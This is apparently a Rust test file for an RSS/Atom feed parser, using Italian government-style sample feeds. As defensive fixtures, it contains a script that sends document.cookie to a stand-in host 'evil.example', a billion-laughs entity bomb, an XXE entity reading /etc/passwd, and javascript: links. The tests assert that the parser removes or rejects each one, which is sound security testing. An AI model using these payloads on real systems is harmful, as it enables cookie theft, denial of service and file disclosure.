use super::*;

const BASE: &str = "https://www.prefettura.example.it/alessandria/feed.xml";

fn parse(xml: &str) -> ParsedFeed {
    parse_feed(xml.as_bytes(), BASE, 100).unwrap_or_else(|e| panic!("{e}\n{xml}"))
}

#[test]
fn rss_2() {
    let feed = parse(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
  <channel>
    <title>Prefettura di Alessandria</title>
    <language>it-it</language>
    <item>
      <title>Consiglio territoriale per l&apos;immigrazione</title>
      <link>/alessandria/notizie/42</link>
      <guid isPermaLink="false">pref-al-42</guid>
      <pubDate>Mon, 02 Jun 2025 10:00:00 +0200</pubDate>
      <description>Breve sintesi</description>
      <content:encoded><![CDATA[<p>Il Consiglio si riunisce.</p><p>Ordine del giorno.</p>]]></content:encoded>
    </item>
    <item>
      <title>Senza guid</title>
      <link>https://www.prefettura.example.it/alessandria/notizie/41</link>
      <pubDate>Sun, 01 Jun 2025 09:00:00 CEST</pubDate>
      <description>Testo</description>
    </item>
    <item>
      <title>Guid permalink</title>
      <guid>https://www.prefettura.example.it/alessandria/notizie/40</guid>
      <pubDate>Fri, 31 May 2025 08:00:00 GMT</pubDate>
    </item>
  </channel>
</rss>"#,
    );
    assert_eq!(feed.format, FeedFormat::Rss2);
    assert_eq!(feed.title.as_deref(), Some("Prefettura di Alessandria"));
    assert_eq!(feed.total_items, 3);
    let first = &feed.items[0];
    assert_eq!(first.id, "pref-al-42");
    assert_eq!(first.title, "Consiglio territoriale per l'immigrazione");
    assert_eq!(
        first.link.as_deref(),
        Some("https://www.prefettura.example.it/alessandria/notizie/42")
    );
    assert_eq!(first.date, Some(Timestamp(1_748_851_200)));
    assert_eq!(
        first.text,
        "Il Consiglio si riunisce.\n\nOrdine del giorno."
    );
    assert_eq!(first.lang, Lang::It);
    // No guid: the link identifies the item; CEST is understood.
    assert_eq!(
        feed.items[1].id,
        "https://www.prefettura.example.it/alessandria/notizie/41"
    );
    assert_eq!(feed.items[1].date, Some(Timestamp(1_748_761_200)));
    // A permalink guid is the link too.
    assert_eq!(
        feed.items[2].link.as_deref(),
        Some("https://www.prefettura.example.it/alessandria/notizie/40")
    );
    assert_eq!(feed.items[2].text, "");
}

#[test]
fn rss_1_rdf() {
    let feed = parse(
        r#"<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://comune.example.it/">
    <title>Comune di Esempio</title>
    <dc:language>fr</dc:language>
  </channel>
  <item rdf:about="https://comune.example.it/avvisi/7">
    <title>Sportello stranieri</title>
    <link>https://comune.example.it/avvisi/7</link>
    <description>Orari &lt;b&gt;estivi&lt;/b&gt;</description>
    <dc:date>2025-06-03T12:00:00+02:00</dc:date>
  </item>
  <item rdf:about="https://comune.example.it/avvisi/6">
    <title>Avviso</title>
    <link>https://comune.example.it/avvisi/6</link>
    <dc:date>2025-06-01</dc:date>
  </item>
</rdf:RDF>"#,
    );
    assert_eq!(feed.format, FeedFormat::Rss1);
    assert_eq!(feed.total_items, 2);
    let first = &feed.items[0];
    assert_eq!(first.id, "https://comune.example.it/avvisi/7");
    assert_eq!(first.text, "Orari estivi");
    assert_eq!(first.lang, Lang::Fr);
    assert_eq!(first.date, Some(Timestamp(1_748_944_800)));
    // A bare date is midnight in Rome.
    assert_eq!(feed.items[1].date, Some(Timestamp(1_748_728_800)));
}

#[test]
fn atom() {
    let feed = parse(
        r#"<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">
  <title type="html">ASL &amp;amp; salute</title>
  <entry>
    <title>Vaccinazioni</title>
    <id>tag:asl.example.it,2025:1</id>
    <link rel="edit" href="https://asl.example.it/edit/1"/>
    <link rel="alternate" type="text/html" href="notizie/1"/>
    <updated>2025-06-04T08:00:00Z</updated>
    <summary>Sintesi</summary>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Primo &lt;paragrafo&gt;</p><p>Secondo</p></div></content>
  </entry>
  <entry xml:lang="ar">
    <title type="html">&lt;b&gt;عنوان&lt;/b&gt;</title>
    <id>tag:asl.example.it,2025:2</id>
    <published>2025-06-05T08:00:00Z</published>
    <updated>2025-06-01T08:00:00Z</updated>
    <content type="html">&lt;p&gt;نص&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;</content>
  </entry>
  <entry>
    <title>Solo sommario</title>
    <id>tag:asl.example.it,2025:3</id>
    <updated>2025-06-02T08:00:00Z</updated>
    <content src="https://asl.example.it/file.pdf" type="application/pdf"/>
    <summary>Il   sommario,
      su due righe</summary>
  </entry>
</feed>"#,
    );
    assert_eq!(feed.format, FeedFormat::Atom);
    assert_eq!(feed.title.as_deref(), Some("ASL & salute"));
    // Sorted by date: the Arabic entry was published last.
    let ids: Vec<&str> = feed.items.iter().map(|i| i.id.as_str()).collect();
    assert_eq!(
        ids,
        [
            "tag:asl.example.it,2025:2",
            "tag:asl.example.it,2025:1",
            "tag:asl.example.it,2025:3"
        ]
    );
    let arabic = &feed.items[0];
    assert_eq!(arabic.title, "عنوان");
    assert_eq!(arabic.text, "نص");
    assert_eq!(arabic.lang, Lang::Ar);
    assert_eq!(arabic.link, None);
    let first = &feed.items[1];
    assert_eq!(
        first.link.as_deref(),
        Some("https://www.prefettura.example.it/alessandria/notizie/1")
    );
    assert_eq!(first.text, "Primo <paragrafo>\n\nSecondo");
    assert_eq!(first.lang, Lang::En);
    assert_eq!(feed.items[2].text, "Il sommario, su due righe");
}

#[test]
fn html_descriptions_lose_scripts_and_keep_paragraphs() {
    let feed = parse(
        r#"<rss version="2.0"><channel><title>t</title>
<item><title>Caff&amp;egrave; &amp;amp; co.</title><guid>1</guid>
<description>&lt;p&gt;Primo&amp;nbsp;paragrafo &amp;ndash; d&amp;#233;j&amp;#xE0;&lt;/p&gt;
&lt;script&gt;document.location='https://evil.example/'+document.cookie&lt;/script&gt;
&lt;style&gt;p { color: red }&lt;/style&gt;
&lt;p onclick="x()"&gt;Secondo&lt;br&gt;a capo&lt;/p&gt;&lt;img src="x.gif"&gt;</description>
</item></channel></rss>"#,
    );
    let item = &feed.items[0];
    assert_eq!(item.title, "Caffè & co.");
    assert_eq!(item.text, "Primo paragrafo – déjà\n\nSecondo\na capo");
    assert!(!item.text.contains("evil"));
}

#[test]
fn the_newest_items_of_a_huge_feed() {
    let mut xml = String::from("<rss version=\"2.0\"><channel><title>t</title>");
    // Oldest first, as some feeds list them.
    for i in 0..10_000 {
        let day = i / 24;
        let hour = i % 24;
        let date = jiff::civil::date(2020, 1, 1)
            .checked_add(jiff::Span::new().days(day))
            .expect("date");
        xml.push_str(&format!(
            "<item><title>Voce {i}</title><guid>id-{i}</guid><pubDate>{}</pubDate><description>testo {i}</description></item>",
            jiff::fmt::rfc2822::to_string(
                &date.at(hour as i8, 0, 0, 0).to_zoned(jiff::tz::TimeZone::UTC).expect("zoned")
            )
            .expect("date")
        ));
    }
    xml.push_str("</channel></rss>");
    let feed = parse_feed(xml.as_bytes(), BASE, 100).expect("feed");
    assert_eq!(feed.total_items, 10_000);
    assert_eq!(feed.items.len(), 100);
    assert_eq!(feed.items[0].id, "id-9999");
    assert_eq!(feed.items[99].id, "id-9900");
}

#[test]
fn undated_items_keep_the_document_order() {
    let mut xml = String::from("<rss version=\"2.0\"><channel>");
    for i in 0..5 {
        xml.push_str(&format!("<item><title>Voce {i}</title></item>"));
    }
    xml.push_str("</channel></rss>");
    let feed = parse_feed(xml.as_bytes(), BASE, 2).expect("feed");
    let titles: Vec<&str> = feed.items.iter().map(|i| i.title.as_str()).collect();
    assert_eq!(titles, ["Voce 0", "Voce 1"]);
    assert_eq!(feed.total_items, 5);
    // Neither guid nor link: a digest of the item identifies it.
    assert!(feed.items[0].id.starts_with("sha256:"));
    assert_ne!(feed.items[0].id, feed.items[1].id);
}

#[test]
fn invalid_xml_says_where() {
    let error = parse_feed(
        b"<rss version=\"2.0\">\n<channel>\n  <item><title>Rotto</item>\n</channel></rss>",
        BASE,
        100,
    )
    .expect_err("invalid");
    match error {
        FeedError::InvalidXml { line, column, .. } => {
            assert_eq!((line, column), (3, 21), "{error}");
        }
        other => panic!("{other:?}"),
    }
    for broken in [
        &b""[..],
        b"not xml at all",
        b"<rss><channel>",
        b"\xff\xfe\x00<",
    ] {
        assert!(
            matches!(
                parse_feed(broken, BASE, 100),
                Err(FeedError::InvalidXml { .. })
            ),
            "{broken:?}"
        );
    }
}

#[test]
fn entity_expansion_is_refused() {
    let laughs = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><item><title>&lol9;</title></item></channel></rss>"#;
    assert!(matches!(
        parse_feed(laughs.as_bytes(), BASE, 100),
        Err(FeedError::InvalidXml { .. })
    ));
    let external = r#"<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><item><title>&xxe;</title></item></channel></rss>"#;
    assert!(matches!(
        parse_feed(external.as_bytes(), BASE, 100),
        Err(FeedError::InvalidXml { .. })
    ));
}

#[test]
fn web_pages_are_not_feeds() {
    for page in [
        "<!DOCTYPE html><html><head><title>Home</title></head><body><p>Benvenuti<br></body></html>",
        "\n<!-- cms -->\n<HTML lang=\"it\"><body>ciao</body></HTML>",
        "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><body/></html>",
        "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    ] {
        assert!(
            matches!(
                parse_feed(page.as_bytes(), BASE, 100),
                Err(FeedError::NotAFeed { .. })
            ),
            "{page}"
        );
    }
}

#[test]
fn latin_1_feeds_are_decoded() {
    let mut bytes = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><rss version=\"2.0\"><channel><item><title>Citt".to_vec();
    bytes.push(0xE0);
    bytes.extend_from_slice(b" di Alessandria</title><guid>x</guid></item></channel></rss>");
    let feed = parse_feed(&bytes, BASE, 100).expect("feed");
    assert_eq!(feed.items[0].title, "Città di Alessandria");
    let mut bom = vec![0xEF, 0xBB, 0xBF];
    bom.extend_from_slice(
        "<rss version=\"2.0\"><channel><item><title>Perché</title></item></channel></rss>"
            .as_bytes(),
    );
    assert_eq!(
        parse_feed(&bom, BASE, 100).expect("feed").items[0].title,
        "Perché"
    );
}

#[test]
fn links_that_are_not_web_addresses_are_dropped() {
    let feed = parse(
        r#"<rss version="2.0"><channel><item><title>x</title><link>javascript:alert(1)</link></item></channel></rss>"#,
    );
    assert_eq!(feed.items[0].link, None);
}

#[test]
fn a_doctype_without_declarations_is_read() {
    // RSS 0.91 feeds name Netscape's DTD; nothing is fetched or expanded.
    let feed = parse(
        r#"<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><item><title>Vecchio formato</title><link>https://example.org/1</link></item></channel></rss>"#,
    );
    assert_eq!(feed.items[0].title, "Vecchio formato");
}
